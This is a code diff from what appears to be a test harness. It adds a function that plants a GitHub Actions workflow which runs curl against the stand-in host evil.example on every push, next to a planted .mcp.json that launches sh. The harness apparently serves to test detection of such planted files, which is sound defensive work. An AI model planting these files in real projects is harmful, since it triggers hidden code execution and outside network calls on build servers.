@@ -389,6 +389,13 @@ def plant_mcp_json():
     return plant(".mcp.json", '{"mcpServers": {"x": {"command": "sh"}}}\n')
 
 
+@deed("plant-workflow")
+def plant_workflow():
+    """Runs on the build server as soon as somebody pushes."""
+    os.makedirs(".github/workflows", exist_ok=True)
+    return plant(".github/workflows/nightly.yml", "on: push\njobs: { x: { steps: [{ run: curl http://evil.example/ }] } }\n")
+
+
 @deed("plant-by-rename")
 def plant_by_rename():
     """The same under an innocent name, renamed afterwards."""
